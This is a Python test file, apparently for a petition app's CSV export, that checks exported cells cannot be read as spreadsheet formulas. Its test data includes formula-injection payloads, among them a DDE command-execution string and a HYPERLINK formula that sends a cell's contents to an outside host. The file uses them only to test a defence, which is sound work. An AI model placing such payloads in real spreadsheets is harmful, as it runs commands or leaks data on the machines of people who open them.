"""Sheets: rows go out in pieces, and no program takes a cell for a formula."""

import csv
import io
import unicodedata

from hypothesis import example, given
from hypothesis import strategies as st

from petition_app.adapters import sheets

MARKS = "cells with an apostrophe before them"
TRIGGERS = "=+-@\t\r\n\0＝＋－＠﹦﹢﹣﹫−"

EVIL = [
    "=1+1",
    "+49 30 123",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1)',
    "  =1",
    "\u00a0=1",
    "\u3000＝1",
    "\u200b=1",
    "\ufeff=1",
    "\t=1",
    "\r=1",
    "\0=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "−1",
    "x;=1",
    'x;"=1"',
    "x\n=1",
    "x\r\n=1",
    "x\t=1",
    "x;  '=1",
    "x;\u200b=1",
]


def written(header, rows, **options):
    return b"".join(sheets.sheet(header, rows, marks=MARKS, **options))


def cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def visible(cell: str) -> str:
    return next(
        (cell[at:] for at, sign in enumerate(cell) if unicodedata.category(sign) not in ("Zs", "Zl", "Zp", "Cf")), ""
    )


def test_a_sheet_begins_with_the_mark_of_utf_8_and_ends_its_lines_with_crlf():
    data = written(["name"], [["Ольга"], ["محمد"]])

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3
    assert cells(data) == [["name", MARKS], ["Ольга", ""], ["محمد", ""]]
    assert not written(["name"], [], utf8_mark=False).startswith(b"\xef\xbb\xbf")


def test_every_cell_is_quoted_and_a_quotation_mark_is_doubled():
    assert written(["a"], [['say "x"']], utf8_mark=False).splitlines()[1] == b'"say ""x""",""'


def test_s25_no_cell_of_a_sheet_begins_like_a_formula():
    rows = cells(written(["name", "comment"], [[evil, evil] for evil in EVIL]))

    for evil, (name, comment, marked) in zip(EVIL, rows[1:], strict=True):
        assert name == comment
        assert visible(name)[:1] not in TRIGGERS, evil
        assert "'" in name, evil
        assert marked == "name, comment"


def test_s25_a_program_that_parts_cells_otherwise_finds_no_formula_either():
    data = written(["name", "comment"], [[evil, "x"] for evil in EVIL])

    for delimiter in ";\t|":
        for row in cells(data, delimiter):
            assert all(visible(cell)[:1] not in TRIGGERS or not cell for cell in row), row


def test_what_begins_with_a_letter_stays_as_it_is():
    harmless = ["Anne-Marie", "a=b", "O'Neill", "1;-)", "x@example.org", "Σ+", "", "'quoted'"]

    rows = cells(written(["name"], [[text] for text in harmless if text != "1;-)"]))

    assert [row[0] for row in rows[1:]] == [text for text in harmless if text != "1;-)"]
    assert all(row[1] == "" for row in rows[1:])
    # After a semicolon a minus may begin a cell in some countries, smile or not.
    assert cells(written(["comment"], [["1;-)"]]))[1] == ["1;'-)", "comment"]


def test_a_long_sheet_goes_out_in_pieces():
    taken = []

    def rows():
        for number in range(2000):
            taken.append(number)
            yield [str(number)]

    pieces = sheets.sheet(["number"], rows(), marks=MARKS)
    next(pieces), next(pieces)

    assert len(taken) == sheets.BATCH
    assert len(cells(written(["number"], rows()))) == 2001


def test_text_that_no_encoding_holds_does_not_stop_a_sheet():
    assert cells(written(["name"], [["a\ud800b"]]))[1][0] == "a?b"


@given(st.lists(st.text(alphabet=st.one_of(st.sampled_from(TRIGGERS + ";,\"' a|\u200b\u00a0"), st.characters()))))
@example(['";"=1'])
@example(['"\n=1'])
def test_s25_whatever_is_typed_no_cell_is_a_formula_and_every_row_is_whole(values):
    data = written(["a", "b"], [[value, value] for value in values])

    rows = cells(data)
    assert len(rows) == len(values) + 1
    assert all(len(row) == 3 for row in rows)
    for delimiter in ",;\t":
        for row in cells(data, delimiter):
            assert not [cell for cell in row if visible(cell)[:1] and visible(cell)[0] in TRIGGERS], (delimiter, row)


@given(st.text(alphabet=st.characters(exclude_categories=["Cc", "Cs"], exclude_characters="'")))
def test_an_apostrophe_of_ours_can_be_taken_off_again(value):
    row = cells(written(["name"], [[value]]))[1]

    assert row[0].replace("'", "") == value
    assert (row[0] == value) == (row[1] == "")
